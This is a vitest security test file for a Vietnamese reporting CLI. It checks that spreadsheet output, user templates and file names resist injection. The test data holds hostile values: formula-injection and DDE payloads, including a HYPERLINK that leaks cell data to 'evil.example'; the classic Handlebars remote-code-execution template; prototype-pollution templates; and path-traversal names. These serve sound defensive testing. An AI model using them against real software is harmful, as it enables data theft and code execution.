/**
 * Safe output: text from input never becomes a spreadsheet formula, in any workbook chitieu
 * writes (read in the raw sheet XML); user templates cannot reach prototypes or run code; file
 * names made from data cannot leave the output folder.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, resolve } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { resultWorkbookBytes } from '../../src/output/results-xlsx.js';
import { writeReportFiles } from '../../src/cli/report.js';
import { loadCatalogue } from '../../src/engine/index.js';
import { errorWorkbookBytes } from '../../src/output/error-workbook.js';
import { outputPath, safeFileName } from '../../src/io/file-names.js';
import { guardWorkbook, isOwnFormula, safeFormula, setText } from '../../src/io/xlsx-output.js';
import type { RejectedRow } from '../../src/model/issues.js';
import { msg } from '../helpers/test-messages.js';
import { reportBaseName } from '../../src/report/file-name.js';
import { createReport } from '../../src/output/report.js';
import { runCli } from '../helpers/cli.js';
import { CHILD_HEADERS, childRow, writeWorkbook } from '../helpers/workbooks.js';
import { COMMUNES, districtInput } from './fixtures.js';

/** Values as a hostile export could hold them (OWASP's CSV/formula injection list). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+2',
];

const xmlText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const unescape = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');

/**
 * Reads a workbook's XML: every <f> must be one of our formulas (cell arithmetic) and hold no
 * input text; every hostile text must be a shared string ("t=s"), in a cell with the Text format.
 */
async function expectNoInputFormulas(bytes: Uint8Array, hostile: readonly string[]): Promise<void> {
  const zip = await JSZip.loadAsync(bytes);
  const read = async (name: string) => (await zip.file(name)?.async('string')) ?? '';
  const shared = [...(await read('xl/sharedStrings.xml')).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    unescape([...m[1]!.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((t) => t[1]).join('')),
  );
  const styles = await read('xl/styles.xml');
  const xfs = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*?numFmtId="(\d+)"/g)].map((m) => Number(m[1]));
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(0);
  const found = new Set<string>();
  for (const name of sheets) {
    const xml = await read(name);
    for (const formula of xml.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)) {
      const text = unescape(formula[1]!);
      expect(isOwnFormula(text), `${name}: <f>${text}</f>`).toBe(true);
      for (const bad of hostile) expect(text).not.toContain(bad);
    }
    for (const bad of hostile) expect(xml, `${name} holds input text inline`).not.toContain(xmlText(bad));
    for (const c of xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>([\s\S]*?)<\/c>/g)) {
      const attributes = c[2]!;
      if (!/t="s"/.test(attributes)) continue;
      const text = shared[Number(/<v>(\d+)<\/v>/.exec(c[3]!)?.[1])];
      if (text === undefined || !hostile.includes(text)) continue;
      found.add(text);
      const style = Number(/ s="(\d+)"/.exec(attributes)?.[1] ?? 0);
      expect(xfs[style], `${name}!${c[1]} "${text}" has the Text format`).toBe(49);
    }
  }
  expect([...found].sort()).toEqual([...new Set(hostile)].sort());
}

describe('no input text becomes a formula', () => {
  it('exceljs writes a string starting with "=" as a shared string, not a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('a');
    sheet.getCell('A1').value = '=1+2';
    const zip = await JSZip.loadAsync(await workbook.xlsx.writeBuffer());
    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(xml).toContain('<c r="A1" t="s"><v>0</v></c>');
    expect(xml).not.toContain('<f>');
    expect(await zip.file('xl/sharedStrings.xml')!.async('string')).toContain('=1+2');
  });

  it('in the report annex: unit names, file names, target labels', async () => {
    const base = districtInput();
    const subUnits = COMMUNES.map((commune, i) => ({ ...commune, fullName: HOSTILE[i]! }));
    const input = districtInput({
      subUnits,
      sources: [{ file: HOSTILE[4]!, read: 1, accepted: 1, rejected: 0, sha256: 'a'.repeat(64) }],
      result: { ...base.result, targets: base.result.targets.map((target) => ({ ...target, target: HOSTILE[5]! })) },
    });
    const files = await createReport(input);
    await expectNoInputFormulas(files.xlsx, HOSTILE);
    // Our own formulas are still there (ratios and differences).
    const zip = await JSZip.loadAsync(files.xlsx);
    expect(await zip.file('xl/worksheets/sheet1.xml')!.async('string')).toMatch(/<f>[A-Z]+\d+\/[A-Z]+\d+\*100<\/f>/);
  });

  it('in compute\'s workbook: unit names, target labels and notes, input file names', async () => {
    const { result } = districtInput();
    const hostileResult = { ...result, targets: result.targets.map((target, i) => ({ ...target, target: HOSTILE[i % 3]!, note: HOSTILE[3]! })) };
    const bytes = await resultWorkbookBytes(hostileResult, loadCatalogue(), (_level, code) => (code === '529' ? HOSTILE[4]! : code), 'vi', [
      { file: HOSTILE[5]!, read: 1, accepted: 1, rejected: 0, sha256: 'b'.repeat(64) },
    ]);
    await expectNoInputFormulas(bytes, HOSTILE);
  });

  it('in the error workbook: every value of a rejected row', async () => {
    const rejected = HOSTILE.map((value, i): RejectedRow => ({
      recordKind: 'children',
      source: { file: 'xa.xlsx', sheet: 'TreEm', row: i + 2 },
      values: { 'Họ và tên': value, 'Mã trẻ em': `TE${i}` },
      issues: [{ kind: 'invalid_date', column: 'Ngày sinh', message: msg('ngày không hợp lệ', 'invalid date') }],
    }));
    await expectNoInputFormulas(await errorWorkbookBytes(rejected, 'vi'), HOSTILE);
  });

  it('in the error workbook written by validate --out, from a real export', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'chitieu-inject-'));
    const rows = HOSTILE.map((value, i) => childRow({ 'Mã trẻ em': `TE9${i}`, 'Số định danh cá nhân': `05121500${String(i).padStart(4, '0')}`, 'Họ và tên': value, 'Ngày sinh': '31/02/2019' }));
    const input = await writeWorkbook(join(dir, 'xa.xlsx'), [{ name: 'TreEm', rows: [CHILD_HEADERS, ...rows] }]);
    const out = join(dir, 'loi.xlsx');
    expect((await runCli('validate', input, '--out', out)).code).toBe(0);
    await expectNoInputFormulas(readFileSync(out), HOSTILE);
  });

  it('refuses to write a formula that is not arithmetic on cells', () => {
    for (const ok of ['K12/J12*100', 'D7-E7', '(D7-E7)/E7*100']) expect(isOwnFormula(ok)).toBe(true);
    for (const bad of ['HYPERLINK("http://x")', 'SUM(A1:A3)', 'A1&"x"', '=A1', 'cmd|\'/C calc\'!A0', '1+2', '']) {
      expect(isOwnFormula(bad), bad).toBe(false);
      expect(() => safeFormula(bad, 0)).toThrow(/refusing to write the formula/);
    }
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('a');
    setText(sheet.getCell('A1'), '@SUM(1)');
    sheet.getCell('A2').value = '-1';
    guardWorkbook(workbook);
    expect(sheet.getCell('A1').numFmt).toBe('@');
    expect(sheet.getCell('A2').numFmt).toBe('@');
    sheet.getCell('A3').value = { text: 'x', hyperlink: 'http://evil.example' };
    expect(() => guardWorkbook(workbook)).toThrow(/refusing to write cell a!A3/);
    sheet.getCell('A3').value = { formula: 'WEBSERVICE("http://evil.example")', result: 0 };
    expect(() => guardWorkbook(workbook)).toThrow(/refusing to write cell a!A3/);
  });
});

describe('hostile report templates (--template)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'chitieu-hostile-'));
  const marker = join(dir, 'da-chay-ma');
  const sample = join(import.meta.dirname, '../../sample-data', readdirSync(join(import.meta.dirname, '../../sample-data')).find((f) => f.includes('-21289-'))!);
  const run = `return process.mainModule.require('fs').writeFileSync('${marker}', 'x')`;
  const TEMPLATES: Record<string, string> = {
    'constructor-call': `{{constructor.constructor "${run}"}}`,
    'constructor-path': 'X{{unit.constructor}}Y\n',
    'proto-path': '{{unit.__proto__.polluted}}\n',
    'bracket-segment': '{{#with unit as |u|}}{{u.[constructor]}}{{/with}}\n',
    'with-string': '{{#with "constructor"}}{{this}}{{/with}}\n',
    'lookup-chain': '{{lookup (lookup this "constructor") "constructor"}}\n',
    'lookup-proto': '{{lookup unit "__proto__"}}\n',
    'define-getter': '{{unit.__defineGetter__}}\n',
    // The well-known Handlebars RCE (before 4.6): strings' prototype methods to build a Function.
    'classic-rce': [
      '{{#with "s" as |string|}}',
      '  {{#with "e"}}',
      '    {{#with split as |conslist|}}',
      '      {{this.pop}}',
      '      {{this.push (lookup string.sub "constructor")}}',
      '      {{this.pop}}',
      '      {{#with string.split as |codelist|}}',
      '        {{this.pop}}',
      `        {{this.push "${run}"}}`,
      '        {{this.pop}}',
      '        {{#each conslist}}',
      '          {{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}',
      '        {{/each}}',
      '      {{/with}}',
      '    {{/with}}',
      '  {{/with}}',
      '{{/with}}',
    ].join('\n'),
    'apply-helper': '{{#with "s" as |string|}}{{string.sub.apply 0 string}}{{/with}}\n',
    log: '{{log "mật khẩu"}}\n',
  };

  for (const [name, body] of Object.entries(TEMPLATES)) {
    it(`refuses "${name}" with exit 4, naming it, and runs nothing`, async () => {
      const path = join(dir, `${name}.hbs`);
      writeFileSync(path, `::subject Báo cáo\n${body}\n`);
      const ran = await runCli('report', sample, '--period', '2025-H1', '--unit', '21289', '--template', path, '--out', join(dir, 'out'));
      expect(ran.code, ran.stderr).toBe(4);
      expect(ran.stderr).toContain(`Mẫu báo cáo "${name}"`);
      expect(ran.stderr.split('\n')).toHaveLength(1);
      expect(existsSync(marker)).toBe(false);
      expect(existsSync(join(dir, 'out'))).toBe(false);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  }

  it('refuses a hostile partial next to the template', async () => {
    const own = join(dir, 'rieng');
    mkdirSync(join(own, 'partials'), { recursive: true });
    writeFileSync(join(own, 'mau.hbs'), '::subject Báo cáo\n{{> phan-1-dac-diem}}\n');
    writeFileSync(join(own, 'partials', 'phan-1-dac-diem.hbs'), '{{lookup this "constructor"}}\n');
    const ran = await runCli('report', sample, '--period', '2025-H1', '--unit', '21289', '--template', join(own, 'mau.hbs'), '--out', join(dir, 'out2'));
    expect(ran.code).toBe(4);
    expect(ran.stderr).toContain('phần "phan-1-dac-diem"');
  });

  it('treats a name that is not a bundled template as unknown (exit 4)', async () => {
    for (const name of ['__proto__', 'constructor', 'toString']) {
      const ran = await runCli('report', sample, '--period', '2025-H1', '--unit', '21289', '--template', name, '--out', join(dir, 'out3'));
      expect(ran.code, name).toBe(4);
      expect(ran.stderr).toContain(`Không tìm thấy mẫu báo cáo "${name}"`);
    }
  });
});

describe('output file names made from data', () => {
  it('are one safe path segment', () => {
    expect(safeFileName('bao-cao-529-2025-H1')).toBe('bao-cao-529-2025-H1');
    expect(safeFileName('bao-cao-529-2025-01-01..2025-06-30')).toBe('bao-cao-529-2025-01-01_2025-06-30');
    const cases = ['../../etc/passwd', '/etc/passwd', 'C:\\Windows\\win.ini', '..\\..\\x', 'a\u0000b', 'x/../../y', '..', '.', '', ' .. ', 'a<b>c:d"e|f?g*h', '\u0007bell'];
    for (const name of cases) {
      const safe = safeFileName(name);
      expect(safe, name).not.toMatch(/[/\\<>:"|?*\u0000-\u001f]/);
      expect(safe, name).not.toContain('..');
      expect(safe.length, name).toBeGreaterThan(0);
      expect(safe, name).not.toMatch(/^[.\s]|[.\s]$/);
    }
    for (const reserved of ['CON', 'con', 'NUL.xlsx', 'com1', 'LPT9.docx', 'aux']) expect(safeFileName(reserved)).toBe(`_${reserved}`);
    expect(Buffer.byteLength(safeFileName('Xã '.repeat(200)), 'utf8')).toBeLessThanOrEqual(200);
    expect(safeFileName('Xã Sơn Hà'.normalize('NFD'))).toBe('Xã Sơn Hà');
  });

  it('never leave the output folder', () => {
    const dir = mkdtempSync(join(tmpdir(), 'chitieu-names-'));
    for (const name of ['../x.docx', '/tmp/x.docx', '..', 'a/b.xlsx', 'NUL', '']) {
      const path = outputPath(dir, name);
      expect(dirname(resolve(path))).toBe(resolve(dir));
    }
    expect(reportBaseName('529', '../../../tmp/x')).not.toContain('/');
  });

  it('keep report files inside --out whatever the period id says', () => {
    const dir = mkdtempSync(join(tmpdir(), 'chitieu-names-'));
    const out = join(dir, 'out');
    const written = writeReportFiles(out, '529', '../../../thoat/CON', { docx: Buffer.from('d'), xlsx: Buffer.from('x') });
    for (const path of [written.docx, written.xlsx]) expect(dirname(resolve(path))).toBe(resolve(out));
    expect(readdirSync(out).sort()).toEqual([basename(written.docx), basename(written.xlsx)].sort());
    expect(existsSync(join(dir, 'thoat'))).toBe(false);
  });
});
